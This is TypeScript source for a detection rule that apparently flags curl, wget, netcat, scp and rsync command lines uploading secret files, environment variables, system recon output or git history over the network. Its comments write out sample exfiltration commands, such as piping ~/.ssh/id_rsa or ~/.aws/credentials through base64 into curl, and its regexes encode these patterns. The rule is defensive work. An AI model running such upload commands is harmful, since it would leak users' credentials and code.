// EXF-04 curl/wget/nc uploads of secrets or system data: command lines that send a secret file, a
// command's output, the environment or the repository's content over the network.
import type { FileView, RuleMatch, Severity } from '../../types.ts';
import { isProseMention, isSignatureContext } from '../markdown-context.ts';
import { decodedShellNames } from '../script-context.ts';
import { insideHtmlComment } from '../../html-comments.ts';
import { WELL_KNOWN_HOSTS, firstUrlIn, hostOf } from '../hosts.ts';
import { testRegex } from '../context.ts';
import { COMMENT_LINE, GIT_HOOK_FILE, SECRET_PATH, logicalLines, shorten } from './shared.ts';
import { NETWORK_SEND_ONE } from './network-sinks.ts';

const UPLOAD_TOOL = /\b(?:curl|wget|http|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|nc|ncat|netcat|socat|scp|rsync)\b/;
const UPLOAD_FLAG_ARG =
  /(?:\s-d|\s--data(?:-binary|-raw|-urlencode|-ascii)?|\s-F|\s--form|\s--upload-file|\s-T|\s--post-file|\s--body-file|\s-InFile|\s-Body)\s*=?\s*["']?(@?["']?[^\s"']+)/g;
const DOLLAR_SUBSTITUTION = /\$\(([^()\n]{1,200})\)/g;
// Backticks are command substitution in scripts but inline code in markdown.
const BACKTICK_SUBSTITUTION = /`([^`\n]{1,200})`/g;
// Host and user details. `uname -s`/`uname -m` pick a download for the platform and are not recon.
const RECON = /^\s*(?:uname\s+(?:-\w*a|--all)|whoami|hostname|id\b|env\b|printenv|ifconfig|ip\s+a|ipconfig|cat\s+\/etc\/(?:passwd|hosts|os-release)|ps\s|ls\s|pwd|git\s+config)/;
const NETCAT_INPUT = /(?<![\w-])(?:nc|ncat|netcat|socat)\b[^\n<]{0,100}<\s*["']?([^\s"']+)/;
const REMOTE_COPY = /\b(?:scp|rsync)\b([^\n]{0,300})\s[\w.-]+@[\w.-]+:/;
const PIPE_TO_UPLOAD = /\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|http|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/;
const REPOSITORY_CONTENT = /\bgit\s+(?:show|diff|format-patch|archive|bundle\s+create|log\b[^|\n]{0,60}\s(?:-p|--patch)\b)/;
// A URL built from a command substitution: curl "https://x/?d=$(cat ~/.ssh/id_rsa | base64)".
const URL_WITH_SUBSTITUTION = /https?:\/\/[^\s"'`]*\$\(/;

/**
 * Logical lines, with very long ones (minified code, padding) cut into windows that start at each
 * network tool: a command line is short, and the windows keep the work linear.
 */
function commandLines(text: string): { start: number; line: string }[] {
  const out: { start: number; line: string }[] = [];
  for (const l of logicalLines(text)) {
    if (l.line.length <= 4000) {
      out.push(l);
      continue;
    }
    const tool = new RegExp(UPLOAD_TOOL.source, 'g');
    let m: RegExpExecArray | null;
    let windows = 0;
    let covered = -1;
    while ((m = tool.exec(l.line)) !== null && windows < 50) {
      const from = Math.max(m.index - 400, covered, 0);
      out.push({ start: l.start + from, line: l.line.slice(from, m.index + 1200) });
      covered = m.index + 1200;
      tool.lastIndex = covered;
      windows++;
    }
  }
  return out;
}

const UPLOAD_TOOL_ANYWHERE = new RegExp(UPLOAD_TOOL.source);

export function uploadMatches(file: FileView): RuleMatch[] {
  const out: RuleMatch[] = [];
  // Found once per file, when a sender first needs them.
  let decodedNames: Set<string> | undefined;
  // One scan for any network tool before the file is cut into command lines.
  if (!testRegex(UPLOAD_TOOL_ANYWHERE, file.text)) return out;
  for (const { start, line } of commandLines(file.text)) {
    if (!UPLOAD_TOOL.test(line) || COMMENT_LINE.test(line)) continue;
    // A command inside an HTML comment is hidden from the reader, not quoted for them.
    if (isProseMention(file, start) && !file.inCode(start + line.search(UPLOAD_TOOL)) && !insideHtmlComment(file, start + line.search(UPLOAD_TOOL))) continue;
    if (isSignatureContext(file, start)) continue;
    let severity: Severity | null = null;
    let what = '';
    const inUrl = URL_WITH_SUBSTITUTION.test(line);
    const isSender = NETWORK_SEND_ONE.test(line) || PIPE_TO_UPLOAD.test(line) || NETCAT_INPUT.test(line) || REMOTE_COPY.test(line) || inUrl;
    if (!isSender) continue;
    // Flag arguments: -d @~/.ssh/id_rsa, -F f=@.env, -T ~/.aws/credentials.
    UPLOAD_FLAG_ARG.lastIndex = 0;
    let a: RegExpExecArray | null;
    while ((a = UPLOAD_FLAG_ARG.exec(line)) !== null) {
      if (SECRET_PATH.test(a[1])) {
        severity = 'critical';
        what = a[1];
      }
    }
    // Command substitutions in the request: "$(cat ~/.ssh/id_rsa)", "$(uname -a)".
    const substitutions = [...line.matchAll(DOLLAR_SUBSTITUTION)];
    if (file.kind === 'script') substitutions.push(...line.matchAll(BACKTICK_SUBSTITUTION));
    for (const s of substitutions) {
      if (severity === 'critical') break;
      const inner = s[1];
      if (SECRET_PATH.test(inner) && /\b(?:cat|base64|tar|head|tail|xxd)\b/.test(inner)) {
        severity = 'critical';
        what = inner;
      } else if (RECON.test(inner) && (/\s-(?:d|F|T)\b|--data|--form|-Body/.test(line) || inUrl)) {
        severity = 'high';
        what = inner;
      }
    }
    // A pipeline that reads secrets and ends in an upload: cat ~/.aws/credentials | base64 | curl -d @-.
    const pipe = line.search(PIPE_TO_UPLOAD);
    if (severity !== 'critical' && pipe > 0) {
      const head = line.slice(0, pipe);
      const secret = SECRET_PATH.exec(head);
      if (secret && /\b(?:cat|tar|zip|base64|gpg|sqlite3|find|head|tail|xxd|Get-Content)\b/.test(head)) {
        severity = 'critical';
        what = secret[0];
      } else if (/(?<![\w-])(?:printenv|env|set)\s*(?:\||$)/.test(head)) {
        severity = 'critical';
        what = 'the environment';
      } else if (REPOSITORY_CONTENT.test(head)) {
        // Commits, diffs and patches piped to a host that is not a well-known service: the code
        // and its history leave with every run (a git hook doing this leaks each commit).
        const host = hostOf(firstUrlIn(line));
        if (host && !host.startsWith('$') && !WELL_KNOWN_HOSTS.test(host)) {
          // In a git hook it runs on every commit or push, unasked.
          severity = GIT_HOOK_FILE.test(file.skillPath) ? 'critical' : 'high';
          what = 'repository content';
        }
      }
    }
    // A git credential helper that sends what it reads: git hands it every username and password.
    if (severity !== 'critical' && /\bcredential\.helper\b/.test(line)) {
      severity = 'critical';
      what = 'git credentials';
    }
    const nc = NETCAT_INPUT.exec(line);
    if (severity !== 'critical' && nc && SECRET_PATH.test(nc[1])) {
      severity = 'critical';
      what = nc[1];
    }
    const copy = REMOTE_COPY.exec(line);
    if (severity !== 'critical' && copy) {
      const secret = SECRET_PATH.exec(copy[1]);
      if (secret) {
        severity = 'critical';
        what = secret[0];
      }
    }
    // The address itself decoded at run time (ep=$(printf %s "$CONF" | base64 -d); curl -d ... "$ep"):
    // where the data goes is kept from the reader.
    if (!severity && file.kind === 'script' && /\s-(?:d|F|T)\b|--data|--form|--upload-file|-X\s*["']?(?:POST|PUT)/.test(line)) {
      decodedNames ??= decodedShellNames(file.text);
      for (const v of line.matchAll(/["'\s]\$\{?([A-Za-z_]\w*)\}?/g)) {
        if (decodedNames.has(v[1])) {
          severity = 'high';
          what = 'an address decoded at run time';
          break;
        }
      }
    }
    if (!severity) continue;
    out.push({
      index: start + Math.max(0, line.search(/\S/)),
      length: Math.min(line.length, 200),
      severity,
      message:
        what === 'repository content'
          ? `Sends commits or diffs of the repository to an outside host${severity === 'critical' ? ' from a git hook, on every run' : ''}`
          : severity === 'critical'
            ? `Uploads secrets (${shorten(what, 40)}) over the network`
            : what === 'an address decoded at run time'
              ? 'Sends data to an address that is base64-decoded at run time'
              : `Sends local system data (${shorten(what, 40)}) over the network`,
    });
  }
  return out.slice(0, 20);
}
